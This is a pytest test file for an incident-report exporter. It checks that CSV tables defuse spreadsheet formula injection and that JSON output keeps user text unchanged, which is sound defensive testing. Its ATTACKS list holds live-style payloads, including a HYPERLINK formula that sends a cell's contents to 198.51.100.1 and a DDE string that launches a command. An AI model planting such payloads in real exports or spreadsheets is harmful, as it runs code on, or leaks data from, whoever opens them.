"""Tables for a spreadsheet: whoever opens one runs nothing of it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from azukari.incident.case import Case, Said
from azukari.incident.paper import render_json
from azukari.incident.report import draft
from azukari.incident.tables import FORMULA, harmless, tables, written
from azukari.incident.telling import Hand, Telling, Thing

NOW = dt.datetime(2022, 6, 22, 7, 0, tzinfo=dt.UTC)
ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://198.51.100.1/?"&A1,"見る")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝１＋１",
    "＋１",
    "－１",
    "＠SUM",
    "|calc",
    "%0A=1",
]


def telling(case: Case, text: str) -> Telling:
    said = Said("cause", text, text, NOW)
    return Telling(
        case=replace(case, said=(said,), party=text),
        city=text,
        call=text,
        as_of=NOW,
        last_held_at=NOW,
        things=(Thing("m", text, text, text, text, NOW, (Hand(text, NOW),)),),
        processor=text,
        entrustor=text,
        processor_case=replace(case, party=text),
        said=(replace(said, blank="place"),),
    )


def cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_injection_in_exports_is_text_in_every_table(case: Case, attack: str) -> None:
    for name, data in tables(telling(case, attack), "ja").items():
        found = cells(data)
        assert not [cell for cell in found if cell.lstrip(" \u3000\xa0")[:1] in FORMULA], name
        if name in ("duties", "hands", "blanks"):
            assert [cell for cell in found if cell.startswith("'")], name


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_injection_in_the_json_is_the_text_as_it_was_written(
    case: Case, attack: str
) -> None:
    """JSON is read by programs, which must get what was said and no more."""
    report = draft(replace(case, said=(Said("cause", attack, "x", NOW),)), "prompt", NOW)

    said = json.loads(render_json(report))["items"][3]["statements"][0]

    assert attack == said["values"]["text"]


@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), max_size=4))
@settings(deadline=None)
def test_any_cell_stays_one_cell_and_begins_no_formula(rows: list[list[str]]) -> None:
    data = written(rows)
    found = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    assert [len(row) for row in rows] == [len(row) for row in found]
    for row in found:
        for cell in row:
            assert cell.lstrip(" \u3000\xa0")[:1] not in FORMULA or not cell


def test_a_plain_cell_is_left_as_it_is() -> None:
    assert ["架空市", "465177", "2022-06-22", "", "a-b"] == [
        harmless(one) for one in ("架空市", 465_177, dt.date(2022, 6, 22), None, "a-b")
    ]


def test_bidi_in_a_cell_is_shown_by_its_number() -> None:
    assert "調査⟨U+202E⟩了完" == harmless("調査\u202e了完")


def test_every_table_has_its_head_and_its_rows(case: Case) -> None:
    found = tables(telling(case, "例示"), "en")

    assert {"impact", "duties", "hands", "blanks"} == set(found)
    for data in found.values():
        assert data.startswith(b"\xef\xbb\xbf")
        assert data.count(b"\r\n") >= 2


@pytest.mark.parametrize("cell", ["a;=1+1;b", "a; =1+1", "a；＝1+1", "a;+1;-1;@x"])
def test_formula_injection_behind_a_semicolon_where_that_parts_cells(cell: str) -> None:
    """In much of Europe a comma parts nothing: the line falls apart at its semicolons."""
    line = written([["x", cell]]).decode("utf-8-sig")

    assert not [part for part in re.split("[;；]", line) if part.strip()[:1] in FORMULA]
